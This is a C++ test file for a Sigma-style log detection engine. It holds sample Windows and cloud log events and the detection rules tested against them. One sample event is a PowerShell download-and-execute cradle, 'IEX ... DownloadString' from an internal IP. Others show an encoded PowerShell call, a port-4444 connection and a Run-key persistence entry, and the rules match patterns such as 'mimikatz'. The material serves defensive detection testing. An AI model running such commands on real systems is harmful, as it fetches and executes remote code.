// SPDX-License-Identifier: BSL-1.0
#include "samples.hpp"

#include "rules.hpp"

#include <varsigma/event/logsource.hpp>

#include <initializer_list>
#include <string_view>

namespace varsigma_tests {

std::vector<std::string> sample_lines() {
    return {
        R"({"Channel":"Microsoft-Windows-Sysmon/Operational","EventID":1,"Image":"C:\\Windows\\System32\\cmd.exe","CommandLine":"cmd.exe /c \"whoami /all\" > C:\\temp\\x.txt","ParentImage":"C:\\Windows\\explorer.exe","User":"CORP\\alice","ProcessId":4242,"UtcTime":"2025-08-02 09:15:00.123"})",
        R"({"Channel":"Security","EventID":4688,"NewProcessName":"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe","CommandLine":"powershell -enc SQBFAFgA","ParentProcessName":"C:\\Windows\\System32\\services.exe","ProcessId":"0x3e8","NewProcessId":"0x1f4","SubjectUserName":"SYSTEM"})",
        R"({"Channel":"Security","EventID":"4624","LogonType":3,"IpAddress":"10.1.2.3","TargetUserName":"Administrator","SubjectUserName":"-"})",
        R"({"Channel":"Microsoft-Windows-Sysmon/Operational","EventID":3,"Image":"C:\\Users\\bob\\AppData\\Local\\Temp\\up.exe","DestinationIp":"::ffff:192.168.1.7","DestinationPort":4444,"Initiated":true})",
        R"({"Channel":"Microsoft-Windows-Sysmon/Operational","EventID":12,"EventType":"CreateKey","TargetObject":"HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\Up"})",
        R"({"Channel":"Application","EventID":1000,"Data":["faulting","application","cmd.exe",17,null,{"inner":"whoami"}]})",
        R"({"Channel":"My-Company/Operational","EventID":7,"winlog":{"event_data":{"Image":"a.exe","Hashes":["MD5=1","SHA1=2"]}},"message":"K\u212Aelvin \u00e4\u00c4 \ud83d\udd25"})",
        R"({"eventSource":"iam.amazonaws.com","eventName":"CreateUser","requestParameters":{"userName":"mallory","tags":[]},"responseElements":null,"errorCode":"","score":0.75})",
        R"({"c":[{"d.e":1},{"d":{"e":2}},{"d":{"e":[3,[4,"five"]]}}],"c.d":"flat","n":18446744073709551616,"t":"true"})",
        R"j({"Channel":"Microsoft-Windows-PowerShell/Operational","EventID":4104,"ScriptBlockText":"IEX (New-Object Net.WebClient).DownloadString('http://10.0.0.1/a.ps1')"})j",
        R"({})",
    };
}

std::vector<varsigma::detection_rule> sample_rules(bool with_expressions) {
    struct sample {
        std::string_view detection;
        varsigma::logsource source = {};
    };
    constexpr varsigma::logsource process{.product = "windows", .category = "process_creation"};
    std::vector<varsigma::detection_rule> rules;
    for (
        const auto& [detection, source] : std::initializer_list<sample>{
            {R"({"s": {"Image|endswith": "\\cmd.exe"}, "condition": "s"})", process},
            {R"({"s": {"Image|endswith": ["\\cmd.exe", "\\powershell.exe"], "CommandLine|contains|all": ["/c", "whoami"]}, "condition": "s"})",
             process},
            {R"({"s": {"CommandLine|windash|contains": " -enc "}, "condition": "s"})", process},
            {R"({"s": {"Image": "*\\System32\\*\\power?hell.exe"}, "f": {"ParentImage|endswith": "services.exe"}, "condition": "s and not f"})",
             process},
            {R"({"s": {"ParentImage|contains": "explorer"}, "condition": "s"})", process},
            {R"({"s": {"ProcessId": 4242}, "condition": "s"})"},
            {R"({"s": {"ProcessId": "0x3e8"}, "condition": "s"})", {.service = "security"}},
            {R"({"s": {"ProcessId": "0x1f4"}, "condition": "s"})", process},
            {R"({"s": {"EventID": 4624, "LogonType": [3, 10]}, "condition": "s"})",
             {.product = "windows", .service = "security"}},
            {R"({"s": {"IpAddress|cidr": ["10.0.0.0/8", "192.168.0.0/16"]}, "condition": "s"})"},
            {R"({"s": {"DestinationIp|cidr": "192.168.0.0/16", "DestinationPort|gte": 4000}, "condition": "s"})",
             {.category = "network_connection"}},
            {R"({"s": {"Initiated": true}, "condition": "s"})"},
            {R"({"s": {"Initiated": null}, "condition": "not s"})"},
            {R"({"s": {"TargetObject|contains": "\\CurrentVersion\\Run\\"}, "condition": "s"})",
             {.category = "registry_add"}},
            {R"({"s": {"TargetObject|exists": true}, "condition": "s"})", {.category = "registry_event"}},
            {R"({"s": ["whoami"], "condition": "s"})"},
            {R"({"s": {"|all": ["faulting", "17"]}, "condition": "s"})", {.service = "application"}},
            {R"({"s": {"Data": "CMD.exe"}, "condition": "s"})"},
            {R"({"s": {"winlog.event_data.Hashes|contains|all": ["md5", "sha1"]}, "condition": "s"})"},
            {R"({"s": {"winlog.event_data.Image|cased": "a.exe"}, "condition": "s"})"},
            {R"({"s": {"message|contains": "kkelvin"}, "condition": "s"})"},
            {R"({"s": {"message": "*\u00e4\u00e4 ?"}, "condition": "s"})"},
            {R"({"s": {"eventName|startswith": "create", "requestParameters.userName|exists": true}, "condition": "s"})"},
            {R"({"a": {"errorCode": ""}, "b": {"responseElements": null}, "c": {"score|lt": 1}, "condition": "2 of them"})"},
            {R"({"s": {"c.d.e": 1}, "t": {"c.d.e": 2}, "u": {"c.d.e": "FIVE"}, "condition": "all of them"})"},
            {R"({"s": {"c.d": "flat", "n|gt": 1}, "condition": "s"})"},
            {R"({"s": {"t": true}, "condition": "s"})"},
            {R"({"s": {"UtcTime|hour": 9, "UtcTime|year|gt": 2000}, "condition": "s"})"},
            {R"({"s": {"SubjectUserName|fieldref|neq": "TargetUserName"}, "condition": "s"})", {.service = "security"}},
            {R"({"s": {"CommandLine|utf16le|base64offset|contains": "IEX"}, "condition": "s"})", process},
            {R"({"s": [{"ScriptBlockText|contains": "downloadstring"}, "mimikatz"], "condition": "1 of s*"})"},
        }) {
        rules.push_back(rule_of("r" + std::to_string(rules.size()), detection, source));
    }
    if (with_expressions) {
        rules.push_back(rule_of("e1", R"j({"s": {"ScriptBlockText|re": "https?://[0-9.]+/"}, "condition": "s"})j"));
        rules.push_back(rule_of("e2", R"j({"s": {"|re|i": "c:.windows"}, "condition": "s"})j"));
    }
    return rules;
}

} // namespace varsigma_tests
